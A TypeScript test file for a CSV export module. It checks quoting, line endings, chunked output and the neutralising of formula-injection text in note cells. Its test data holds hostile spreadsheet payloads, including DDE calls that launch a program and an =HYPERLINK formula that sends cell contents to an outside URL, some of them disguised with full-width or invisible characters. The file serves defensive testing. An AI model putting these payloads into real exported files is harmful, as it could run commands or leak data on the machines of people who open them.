import { array, assert, property, string } from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { aLead, EXPORT_NOW } from '@/tests/support/export-builders.ts';
import type { Lead } from '../domain/lead.ts';
import { exportRows } from './export-rows.ts';
import { csvHead, csvRows } from './write-csv.ts';

const context = { stageNames: new Map([['new', 'New']]), now: EXPORT_NOW };

const rowsOf = (leads: Lead[]) =>
  exportRows(
    leads.map((lead) => ({ lead, contacts: null })),
    context,
  ).rows;

/** A file of the one column "note" as its bytes are, and as a reader of CSV sees its cells. */
function noteFile(...notes: string[]) {
  const leads = notes.map((note) => aLead({ note }));
  const text = csvHead(['note', 'beds']) + csvRows(['note', 'beds'], rowsOf(leads));
  const lines = Papa.parse<string[]>(text.replace('\uFEFF', ''), { skipEmptyLines: true }).data;
  return { text, notes: lines.slice(1).map(([note]) => note) };
}

describe('csvHead', () => {
  it('starts with one byte order mark and ends the header with CRLF', () => {
    expect(csvHead(['address', 'phone_1'])).toBe('\uFEFFaddress,phone_1\r\n');
  });
});

describe('csvRows', () => {
  it('ends every line with CRLF and writes nothing for no rows', () => {
    expect(csvRows(['lead_id', 'beds'], rowsOf([aLead(), aLead({ id: 'b' })]))).toBe(
      'lead-1,3\r\nb,3\r\n',
    );
    expect(csvRows(['lead_id'], [])).toBe('');
  });

  it.each([
    ['a quote', 'the "big" one'],
    ['only quotes', '""'],
    ['a comma', 'roof, windows'],
    ['CRLF', 'first\r\nsecond'],
    ['a bare line feed', 'first\nsecond'],
    ['a bare carriage return', 'first\rsecond'],
    ['blanks around', '  padded '],
    ['letters of all kinds', 'Peña Straße 東京 🏠 é'],
    ['a byte order mark', 'a\uFEFFb'],
    ['a formula inside a line', 'asks a=b, -5 or +3 @ noon'],
  ])('keeps text with %s as it is', (_, note) => {
    expect(noteFile(note, 'next').notes).toEqual([note, 'next']);
  });

  it.each([
    ['equals', '=1+1'],
    ['plus', '+1+1'],
    ['minus', '-2+3'],
    ['at', '@SUM(A1)'],
    ['a link', '=HYPERLINK("https://example.com?x="&A1,"click")'],
    ['a DDE call', "=cmd|' /C calc'!A0"],
    ['a DDE call by minus', "-2+3+cmd|' /C calc'!A0"],
    ['a formula over lines', '=1+1\nsecond'],
    ['a formula behind a quote sign of CSV', '="x"",=1"'],
    ['a tab', '\t=1'],
    ['a tab alone', '\ttext'],
    ['a carriage return', '\r=1'],
    ['a line feed', '\n=1'],
    ['blanks', '  =1'],
    ['a non-breaking blank', '\u00A0=1'],
    ['a zero-width blank', '\u200B=1'],
    ['a byte order mark', '\uFEFF=1'],
    ['a control character', '\u0007=1'],
    ['full-width equals', '＝1+1'],
    ['full-width plus', '＋1'],
    ['full-width minus', '－1+1'],
    ['full-width at', '＠SUM(A1)'],
    ['a phone with signs', '+1-614-555-0101'],
    ['a list', '- new roof'],
  ])('disarms text that starts with %s', (_, note) => {
    expect(noteFile(note).notes).toEqual([`'${note}`]);
  });

  it.each(['-5', '+5', '-83.0125', '+442079460123', '614-555-0101', '00123'])(
    'leaves the plain number %s usable',
    (note) => {
      expect(noteFile(note).notes).toEqual([note]);
    },
  );

  it('writes negative amounts and places as numbers', () => {
    const lead = aLead({}, { lat: 39.96, lng: -83.0125 });
    expect(csvRows(['latitude', 'longitude'], rowsOf([lead]))).toBe('39.96,-83.0125\r\n');
  });

  it('drops NUL, before it looks for formulas', () => {
    expect(noteFile('a\0b', '\0=1').notes).toEqual(['ab', "'=1"]);
  });

  it('never lets a cell begin like a formula, and keeps the rest of it, for any text', () => {
    assert(
      property(array(string({ unit: 'binary', minLength: 1 }), { minLength: 1 }), (texts) => {
        const { notes } = noteFile(...texts);
        expect(notes.map((note) => note?.replace(/^'/, ''))).toEqual(
          texts.map((text) => text.replaceAll('\0', '').replace(/^'/, '')),
        );
        const armed = notes.filter(
          (note) => /^\s*[=+\-@]/.test(note ?? '') && !/^[+-]\d+(\.\d+)?$/.test(note ?? ''),
        );
        expect(armed).toEqual([]);
      }),
    );
  });

  it('gives the same file however it is cut into parts', () => {
    const leads = Array.from({ length: 250 }, (_, index) =>
      aLead({ id: `lead-${index}`, note: index % 7 === 0 ? '"a",\r\n=b' : '' }),
    );
    const columns = ['lead_id', 'address', 'note', 'price'] as const;
    const rows = rowsOf(leads);
    const whole = csvRows(columns, rows);
    for (const size of [1, 7, 249, 250, 1000]) {
      const parts = [];
      for (let start = 0; start < rows.length; start += size)
        parts.push(csvRows(columns, rows.slice(start, start + size)));
      expect(parts.join('')).toBe(whole);
    }
    expect(Papa.parse(whole.trimEnd()).data).toHaveLength(250);
  });
});
